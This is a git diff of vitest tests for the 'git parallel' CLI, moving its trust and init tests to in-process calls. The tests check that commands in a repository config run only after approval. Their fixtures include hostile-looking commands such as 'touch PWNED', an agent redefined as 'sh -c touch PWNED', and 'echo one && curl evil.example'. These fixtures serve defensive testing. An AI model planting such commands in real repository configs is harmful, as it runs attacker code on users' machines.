@@ -2,66 +2,52 @@ import { execFileSync } from 'node:child_process';
 import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { runCli } from '../helpers/cli.js';
+import { type InitArgs, init } from '../../src/actions/init.js';
+import { type TrustArgs, trust } from '../../src/actions/trust.js';
+import { callAction } from '../helpers/in-process.js';
 import { makeRepo, type TestRepo } from '../helpers/repo.js';
 import { waitFor } from '../helpers/stand-in-agent.js';
 import { type PrivateTmux, privateTmux } from '../helpers/tmux.js';
+import { untrustedRepoEach } from '../helpers/workspace.js';
 
 describe('trust: commands from a repository config run only once approved', () => {
-  let repo: TestRepo;
-  let userConfig: string;
-
-  beforeEach(() => {
-    repo = makeRepo('app');
-    userConfig = path.join(repo.parent, 'user-config');
-  });
-  afterEach(() => repo.cleanup());
-
-  // GIT_PARALLEL_TRUST is cleared: these tests see what a user sees.
-  const cli = (args: string[], extra: NodeJS.ProcessEnv = {}) =>
-    runCli(args, { cwd: repo.root, env: { GIT_PARALLEL_TRUST: '', XDG_CONFIG_HOME: userConfig, ...extra } });
-  const repoConfig = (settings: Record<string, unknown>) => {
-    writeFileSync(
-      path.join(repo.root, '.git-parallelrc.json'),
-      JSON.stringify({ agent: 'shell', ...settings }),
-    );
-    repo.commit('config');
-  };
-  const store = () => path.join(userConfig, 'git-parallel', 'trusted.json');
-  const nothingCreated = () => {
-    expect(existsSync(path.join(repo.parent, 'app-worktrees'))).toBe(false);
-    expect(repo.git('branch', '--list')).toBe('* main');
-  };
+  const untrusted = untrustedRepoEach();
+  const { cli, repoConfig, nothingCreated } = untrusted;
+  /** `git parallel trust` in-process, as the same user: approving writes to their config folder. */
+  const trustIn = (args: Partial<TrustArgs> = {}, json = false) =>
+    callAction((io) => trust({ dryRun: false, revoke: false, ...args }, io), {
+      cwd: untrusted.repo.root,
+      env: { GIT_PARALLEL_TRUST: '', XDG_CONFIG_HOME: untrusted.userConfig },
+      json,
+    });
+  const store = () => path.join(untrusted.userConfig, 'git-parallel', 'trusted.json');
 
   it('refuses an unapproved setup command without a terminal, in one line that says how to approve', async () => {
     repoConfig({ setup: ['touch PWNED'] });
     const result = await cli(['t', '-n', '1', '--mux', 'none']);
     expect(result.code).toBe(2);
     expect(result.stderr.trim()).toBe(
-      `git parallel: ${path.join(repo.root, '.git-parallelrc.json')} defines commands you have not approved (setup[0]); review and approve them with git parallel trust, or pass --trust for this run`,
+      `git parallel: ${path.join(untrusted.repo.root, '.git-parallelrc.json')} defines commands you have not approved (setup[0]); review and approve them with git parallel trust, or pass --trust for this run`,
     );
     nothingCreated();
   });
 
   it('git parallel trust shows the commands and records approval; a changed command asks again', async () => {
     repoConfig({ setup: ['echo one'], hooks: { postCreate: 'echo two' } });
-    const review = await cli(['trust', '--dry-run']);
-    expect(review.code).toBe(0);
+    const review = await trustIn({ dryRun: true });
     expect(review.stdout).toBe(
-      `${path.join(repo.root, '.git-parallelrc.json')} defines these commands:\n  setup[0]: echo one\n  hooks.postCreate[0]: echo two\n`,
+      `${path.join(untrusted.repo.root, '.git-parallelrc.json')} defines these commands:\n  setup[0]: echo one\n  hooks.postCreate[0]: echo two\n`,
     );
     expect(review.stderr).toContain('not approved yet');
     expect(existsSync(store())).toBe(false);
     // --json only reads: the commands and whether they are approved, never an approval.
-    const asJson = await cli(['trust', '--json']);
-    expect(asJson.code).toBe(0);
+    const asJson = await trustIn({}, true);
     expect(JSON.parse(asJson.stdout)).toMatchObject({ approved: false, dryRun: false });
     expect(existsSync(store())).toBe(false);
 
-    const approve = await cli(['trust']);
-    expect(approve.code).toBe(0);
+    await trustIn();
     const saved = JSON.parse(readFileSync(store(), 'utf8'));
-    expect(Object.keys(saved.repositories)).toEqual([repo.root]);
+    expect(Object.keys(saved.repositories)).toEqual([untrusted.repo.root]);
     expect((await cli(['ok', '-n', '1', '--mux', 'none'])).code).toBe(0);
 
     repoConfig({ setup: ['echo one && curl evil.example'], hooks: { postCreate: 'echo two' } });
@@ -71,17 +57,17 @@ describe('trust: commands from a repository config run only once approved', () =
       'defines commands you have not approved (setup[0], hooks.postCreate[0])',
     );
 
-    const json = JSON.parse((await cli(['trust', '--dry-run', '--json'])).stdout);
+    const json = JSON.parse((await trustIn({ dryRun: true }, true)).stdout);
     expect(json).toMatchObject({
       approved: false,
-      repository: repo.root,
+      repository: untrusted.repo.root,
       commands: [
         { key: 'setup[0]', command: 'echo one && curl evil.example' },
         { key: 'hooks.postCreate[0]' },
       ],
     });
 
-    expect((await cli(['trust', '--revoke'])).code).toBe(0);
+    await trustIn({ revoke: true });
     repoConfig({ setup: ['echo one'], hooks: { postCreate: 'echo two' } });
     expect((await cli(['again', '-n', '1', '--mux', 'none'])).code).toBe(2);
   });
@@ -98,7 +84,7 @@ describe('trust: commands from a repository config run only once approved', () =
     const result = await cli(['preset', '-n', '1', '--mux', 'none']);
     expect(result.code).toBe(2);
     expect(result.stderr).toContain('(agents.claude)');
-    const review = await cli(['trust', '--dry-run']);
+    const review = await trustIn({ dryRun: true });
     expect(review.stdout).toContain(
       '  agents.claude: sh -c touch PWNED  (redefines the built-in agent claude)',
     );
@@ -106,9 +92,9 @@ describe('trust: commands from a repository config run only once approved', () =
   });
 
   it("trusts the user's own config, and repository settings that run nothing", async () => {
-    mkdirSync(path.join(userConfig, 'git-parallel'), { recursive: true });
+    mkdirSync(path.join(untrusted.userConfig, 'git-parallel'), { recursive: true });
     writeFileSync(
-      path.join(userConfig, 'git-parallel', 'config.json'),
+      path.join(untrusted.userConfig, 'git-parallel', 'config.json'),
       JSON.stringify({ agent: 'shell', setup: ['echo mine'] }),
     );
     repoConfig({ ports: { PORT: 5000 }, copy: ['.env'] });
@@ -136,11 +122,11 @@ describe('trust: commands from a repository config run only once approved', () =
         '-y',
         '40',
         '-c',
-        repo.root,
+        untrusted.repo.root,
         '-e',
         'GIT_PARALLEL_TRUST=',
         '-e',
-        `XDG_CONFIG_HOME=${userConfig}`,
+        `XDG_CONFIG_HOME=${untrusted.userConfig}`,
         `${process.execPath} ${bin} tty -n 1 --mux none; sleep 30`,
       );
       const screen = await waitFor(() => {
@@ -164,13 +150,20 @@ describe('trust: commands from a repository config run only once approved', () =
   });
 });
 
+/** init in-process (test/helpers/in-process.ts): what it detects and writes; no pane, no run. */
 describe('git parallel init', () => {
   let repo: TestRepo;
   beforeEach(() => {
     repo = makeRepo('app');
   });
   afterEach(() => repo.cleanup());
-  const cli = (args: string[]) => runCli(args, { cwd: repo.root });
+  const initIn = (args: Partial<InitArgs> = {}) =>
+    callAction((io) => init({ format: 'js', force: false, dryRun: false, ...args }, io), { cwd: repo.root });
+  const trustedCommands = async () =>
+    JSON.parse(
+      (await callAction((io) => trust({ dryRun: true, revoke: false }, io), { cwd: repo.root, json: true }))
+        .stdout,
+    );
 
   function nodeProject(type?: 'module') {
     repo.write(
@@ -194,9 +187,7 @@ describe('git parallel init', () => {
 
   it('detects the project and prints a commented starter config with --dry-run', async () => {
     nodeProject();
-    const result = await cli(['init', '--dry-run']);
-    expect(result.code).toBe(0);
-    const text = result.stdout;
+    const text = (await initIn({ dryRun: true })).stdout;
     expect(text).toContain('module.exports = {');
     expect(text).toContain("  copy: ['.env', '.env.local'],");
     expect(text).toContain("  envFile: '.env.local',");
@@ -206,37 +197,36 @@ describe('git parallel init', () => {
     expect(text).toContain("  check: 'npm test',");
     expect(text).toContain('vite --port $PORT');
     expect(text).toContain('  // This file is JavaScript'.trim());
+    expect(text.endsWith('};\n')).toBe(true);
     expect(existsSync(path.join(repo.root, 'git-parallel.config.js'))).toBe(false);
   });
 
   it('writes a config git-parallel loads, and refuses to overwrite it without --force', async () => {
     nodeProject('module');
-    const written = await cli(['init']);
-    expect(written.code).toBe(0);
+    await initIn();
     expect(readFileSync(path.join(repo.root, 'git-parallel.config.js'), 'utf8')).toContain(
       'export default {',
     );
-    const loaded = JSON.parse((await cli(['trust', '--dry-run', '--json'])).stdout);
     // Issue 13 item 5: a Node project's install scripts are among what is approved.
-    expect(loaded.commands).toEqual([
+    expect((await trustedCommands()).commands).toEqual([
       { key: 'deps', command: expect.stringContaining(' with lifecycle scripts (') },
       { key: 'check', command: 'npm test' },
     ]);
 
-    const again = await cli(['init']);
-    expect(again.code).toBe(2);
-    expect(again.stderr.trim()).toBe(
-      `git parallel: git-parallel.config.js already configures git-parallel in ${repo.root}; use --force to replace it`,
-    );
+    await expect(initIn()).rejects.toMatchObject({
+      name: 'UsageError',
+      message: `git-parallel.config.js already configures git-parallel in ${repo.root}; use --force to replace it`,
+    });
     writeFileSync(path.join(repo.root, 'git-parallel.config.js'), 'export default {};\n');
-    expect((await cli(['init', '--force'])).code).toBe(0);
+    await initIn({ force: true });
     expect(readFileSync(path.join(repo.root, 'git-parallel.config.js'), 'utf8')).toContain(
       "check: 'npm test'",
     );
 
-    const other = await cli(['init', '--format', 'yaml', '--force']);
-    expect(other.code).toBe(2);
-    expect(other.stderr).toContain('git-parallel.config.js already configures git-parallel');
+    await expect(initIn({ format: 'yaml', force: true })).rejects.toMatchObject({
+      name: 'UsageError',
+      message: expect.stringContaining('git-parallel.config.js already configures git-parallel'),
+    });
   });
 
   it.each([
@@ -244,9 +234,9 @@ describe('git parallel init', () => {
     ['json', 'git-parallel.config.json'],
   ])('writes --format %s as %s, which loads', async (format, file) => {
     nodeProject();
-    expect((await cli(['init', '--format', format])).code).toBe(0);
+    await initIn({ format });
     expect(existsSync(path.join(repo.root, file))).toBe(true);
-    const loaded = JSON.parse((await cli(['trust', '--dry-run', '--json'])).stdout);
+    const loaded = await trustedCommands();
     expect(loaded.file).toBe(path.join(repo.root, file));
     // Issue 13 item 5: a Node project's install scripts are among what is approved.
     expect(loaded.commands).toEqual([
@@ -256,10 +246,9 @@ describe('git parallel init', () => {
   });
 
   it('writes a useful config for a project that is not a Node project, and rejects an unknown format', async () => {
-    expect((await cli(['init', '--format', 'toml'])).code).toBe(2);
-    const result = await cli(['init', '--dry-run', '--format', 'yaml']);
-    expect(result.code).toBe(0);
-    expect(result.stdout).toContain('# copy:\n#   - .env\n#   - .env.local');
-    expect(result.stdout).not.toContain('deps:');
+    await expect(initIn({ format: 'toml' })).rejects.toMatchObject({ name: 'UsageError' });
+    const { stdout } = await initIn({ dryRun: true, format: 'yaml' });
+    expect(stdout).toContain('# copy:\n#   - .env\n#   - .env.local');
+    expect(stdout).not.toContain('deps:');
   });
 });
